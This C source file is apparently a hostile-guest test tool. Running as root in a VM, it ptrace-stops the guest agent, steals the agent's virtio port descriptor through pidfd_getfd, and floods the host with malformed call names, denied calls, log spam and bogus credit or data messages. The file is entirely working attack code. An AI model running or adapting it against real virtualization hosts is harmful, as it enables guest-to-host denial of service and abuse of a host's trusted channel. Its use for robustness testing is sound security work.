/* A guest whose root has turned on its host: hostile ATTACK [STREAM [CREDIT [STREAMS]]].
 *
 * It stops the agent for good, takes the agent's open port, which nobody else could open,
 * and speaks to the host in its place. The VM is good for nothing afterwards. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CALL = 0x11, DATA = 0x12, CREDIT = 0x15, LOG = 0x84 };
enum { STDIN, STDOUT, FIRST_CALL = 0x80000001u, CHUNK = 32768, WINDOW = 262144 };

struct header {
	uint8_t type, channel;
	uint16_t length;
	uint32_t stream;
};

static int port;
static uint8_t out[CHUNK];
static size_t held;
static uint32_t number, credit = WINDOW;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

/* The number of the agent's descriptor that is a port of virtio. */
static int find_port(void)
{
	DIR *directory = opendir("/proc/1/fd");
	char path[64], target[64] = "";
	struct dirent *entry;

	while (directory && (entry = readdir(directory))) {
		snprintf(path, sizeof path, "/proc/1/fd/%.16s", entry->d_name);
		memset(target, 0, sizeof target);
		if (readlink(path, target, sizeof target - 1) > 0 &&
		    strncmp(target, "/dev/vport", 10) == 0)
			return atoi(entry->d_name);
	}
	fail("no port");
	return -1;
}

static void take_port(void)
{
	int agent = (int)syscall(SYS_pidfd_open, 1, 0);

	if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) != 0 ||
	    ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) != 0 || waitpid(1, NULL, __WALL) != 1)
		fail("the agent does not stop");
	port = (int)syscall(SYS_pidfd_getfd, agent, find_port(), 0);
	if (port < 0)
		fail("the port");
}

/* What the host sends is read and dropped, but CREDIT for stdout is counted. */
static void listen_to_host(void)
{
	static uint8_t in[2 * CHUNK];
	static size_t end;
	size_t start = 0;
	struct header header;
	uint32_t more;
	ssize_t length = read(port, in + end, sizeof in - end);

	end += length > 0 ? (size_t)length : 0;
	while (end - start >= sizeof header) {
		memcpy(&header, in + start, sizeof header);
		if (end - start < sizeof header + header.length)
			break;
		if (header.type == CREDIT && header.channel == STDOUT) {
			memcpy(&more, in + start + sizeof header, 4);
			credit += more;
		}
		start += sizeof header + header.length;
	}
	memmove(in, in + start, end - start);
	end -= start;
}

static void flush(int reads)
{
	struct pollfd polled = {port, (short)(POLLOUT | (reads ? POLLIN : 0)), 0};
	size_t start = 0;

	while (start < held) {
		ssize_t length = write(port, out + start, held - start);

		start += length > 0 ? (size_t)length : 0;
		if (length < 0 && errno != EAGAIN)
			fail("write");
		if (start < held)
			poll(&polled, 1, -1);
		if (reads)
			listen_to_host();
	}
	held = 0;
}

static void put(uint8_t type, uint8_t channel, uint32_t stream, const void *payload,
                size_t length)
{
	struct header header = {type, channel, (uint16_t)length, stream};

	memcpy(out + held, &header, sizeof header);
	memcpy(out + held + sizeof header, payload, length);
	held += sizeof header + length;
}

int main(int argc, char **argv)
{
	const char *attack = argc > 1 ? argv[1] : "";
	uint32_t stream = argc > 2 ? (uint32_t)atoi(argv[2]) : 0;
	uint32_t much = argc > 3 ? (uint32_t)strtoul(argv[3], NULL, 10) : 1;
	int count = argc > 4 ? atoi(argv[4]) : 1;
	int reads = strcmp(attack, "bytes") == 0 || strcmp(attack, "reading-calls") == 0;
	char text[1024];

	memset(text, 'x', sizeof text);
	take_port();
	if (strcmp(attack, "credit") == 0) { /* and read nothing ever after */
		for (int i = 0; i < count; i++)
			put(CREDIT, STDIN, stream + (uint32_t)i, &much, 4);
		flush(0);
		for (;;)
			pause();
	}
	for (;;) {
		while (held + sizeof(struct header) + sizeof text <= sizeof out) {
			if (strcmp(attack, "calls") == 0 || strcmp(attack, "reading-calls") == 0)
				/* with names that no call may have */
				put(CALL, 0, FIRST_CALL + number++, "..\0..\0user", 11);
			else if (strcmp(attack, "denied-calls") == 0)
				put(CALL, 0, FIRST_CALL + number++, "dom0\0test.No\0user", 18);
			else if (strcmp(attack, "logs") == 0)
				put(LOG, 0, 0, text, sizeof text);
			else if (strcmp(attack, "closed") == 0)
				put(CREDIT, STDIN, stream, &much, 4);
			else if (strcmp(attack, "bytes") == 0 && credit > 0) {
				put(DATA, STDOUT, stream, "x", 1);
				credit--;
			} else
				break;
		}
		if (held == 0 && strcmp(attack, "bytes") == 0) {
			struct pollfd polled = {port, POLLIN, 0};

			poll(&polled, 1, -1);
			listen_to_host();
		}
		flush(reads);
	}
}
